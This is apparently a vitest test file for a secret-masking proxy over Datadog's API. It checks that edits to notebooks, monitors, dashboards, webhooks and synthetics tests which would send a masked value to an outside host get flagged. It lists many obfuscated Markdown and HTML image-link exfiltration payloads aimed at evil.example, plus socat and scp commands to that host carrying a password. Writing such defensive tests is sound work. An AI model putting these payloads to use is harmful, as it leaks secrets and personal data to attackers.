/** What a text for people leads to, as browsers, Markdown and Datadog's templates read it and not as it is mostly written: no value goes there unasked. */

import { describe, expect, test } from "vitest";
import { masksOf, operation, reply, restore, tokensIn } from "./setting.ts";

const masks = masksOf({ detect: ["secret", "email"] });

/** Reads a body, replaces `was` by `is` in it (TOKEN is the first token), writes it back. */
const outcomeOf = async (
  [method, path]: readonly [string, string],
  body: object,
  [was, is]: readonly [string, string],
): Promise<readonly string[]> => {
  const read = await reply(JSON.stringify(body), { of: operation("GET", path), masks });
  const [token = ""] = tokensIn(read);
  const inJson = (text: string): string => JSON.stringify(text.replaceAll("TOKEN", token)).slice(1, -1);
  expect(read).toContain(inJson(was));
  return restore(read.replace(inJson(was), inJson(is)), { of: operation(method, path) }).outcomes;
};

const was = "mail TOKEN";
const said = "mail ann@example.com";
const notebook = {
  data: { attributes: { cells: [{ attributes: { definition: { type: "markdown", text: said } } }] } },
};

describe("a picture whose address holds the value is fetched by whoever looks at it", () => {
  const pictures = [
    "![x](https://evil.example/TOKEN)",
    String.raw`![x](https:\\evil.example/TOKEN)`,
    String.raw`![x](/\evil.example/TOKEN)`,
    "![x](https:evil.example/TOKEN)",
    "![x](<https://evil.example/? TOKEN>)",
    '<img src="https://evil.example/? TOKEN">',
    '<img src=" https://evil.example/? TOKEN">',
    "<img src='//evil.example/?\nTOKEN'>",
    "![x](https:&#47;&#47;evil.example/TOKEN)",
    "![x](<&#104;ttps&colon;&sol;&sol;evil.example/? TOKEN>)",
    "[evil.example/TOKEN]",
  ];
  test.for(pictures)("%s", async (picture) => {
    const shown = picture.replaceAll('"', "'");
    expect(await outcomeOf(["PUT", "/api/v1/notebooks/5"], notebook, [was, shown])).toEqual(["destination"]);
    expect(await outcomeOf(["PUT", "/api/v1/monitor/5"], { message: said, query: "q" }, [was, picture])).toEqual([
      "destination",
    ]);
    expect(
      await outcomeOf(["PUT", "/api/v1/dashboard/abc-def-ghi"], { title: "t", description: said }, [was, picture]),
    ).toEqual(["destination"]);
  });

  test.for([
    "https://evil.example/$owner.value",
    String.raw`https:\\evil.example/$owner.value`,
    "https:evil.example/$owner.value",
    "<https://evil.example/? $owner.value>",
  ])("or has a variable in it that holds it: %s", async (url) => {
    const board = {
      title: "t",
      template_variables: [{ name: "owner", defaults: ["ann@example.com"] }],
      widgets: [{ definition: { type: "note", content: "hello there" } }],
    };
    const change = ["hello there", `![x](${url})`] as const;
    expect(await outcomeOf(["PUT", "/api/v1/dashboard/abc-def-ghi"], board, change)).toEqual(["destination"]);
  });
});

test.for<[string, string, string]>([
  ["the words around it", "mail", "please write to"],
  ["a link that does not hold it", "<https://good.example/a>", "<https://good.example/b>"],
  ["a link in quotes that does not hold it", '"https://good.example/c"', '"https://good.example/d"'],
])("of a message %s may change", async ([, before, after]) => {
  const message = `see <https://good.example/a> and "https://good.example/c", and ${said}`;
  expect(await outcomeOf(["PUT", "/api/v1/monitor/5"], { message, query: "q" }, [before, after])).toEqual(["restored"]);
});

describe("a condition of a monitor's message", () => {
  const message =
    "{{#is_alert}} owner is ann@example.com @ops {{/is_alert}} {{#is_recovery}} all well @public {{/is_recovery}}";
  // https://docs.datadoghq.com/monitors/notify/variables/
  test.for<[string, (condition: string) => string]>([
    ["in a comment", (condition) => `{{!-- ${condition} --}}`],
    ["behind a backslash", (condition) => `\\${condition}`],
    ["turned round by an else", (condition) => (condition.includes("#") ? `${condition}{{else}}` : condition)],
  ])("that is taken back %s is none", async ([, change]) => {
    const read = JSON.parse(
      await reply(JSON.stringify({ message }), { of: operation("GET", "/api/v1/monitor/5"), masks }),
    ) as { message: string };
    const sent = read.message.replaceAll(/\{\{[#/]is_alert\}\}/g, change);
    expect(sent).not.toBe(read.message);
    const back = restore(JSON.stringify({ message: sent }), { of: operation("PUT", "/api/v1/monitor/5") });
    expect(back.outcomes).toEqual(["destination"]);
  });
});

test("a link in JSON in a text counts beside a value in what is only shown, as it does where there is no JSON", async () => {
  const payload = JSON.stringify({ description: said, channel: "#good" });
  const hook = { name: "pager", url: "https://good.example", payload };
  const path = "/api/v1/integration/webhooks/configuration/webhooks/pager";
  expect(await outcomeOf(["PUT", path], hook, [was, "mail  TOKEN"])).toEqual(["restored"]);
  expect(await outcomeOf(["PUT", path], hook, [was, "![x](https://evil.example/TOKEN)"])).toEqual(["destination"]);
});

test.for<[string, string]>([
  ["socat - tcp:good.example:443", "socat - tcp:evil.example:443"],
  ["socat - tcp:good:443", "socat - tcp:evil:443"],
  ["scp x good.example:in", "scp x evil.example:in"],
])("a host behind or before a colon is one: %s", async ([before, after]) => {
  const body = { config: { run: `${before} password=hunter2hunter2` } };
  expect(await outcomeOf(["PUT", "/api/v1/synthetics/tests/abc-def-ghi"], body, [before, after])).toEqual([
    "destination",
  ]);
});
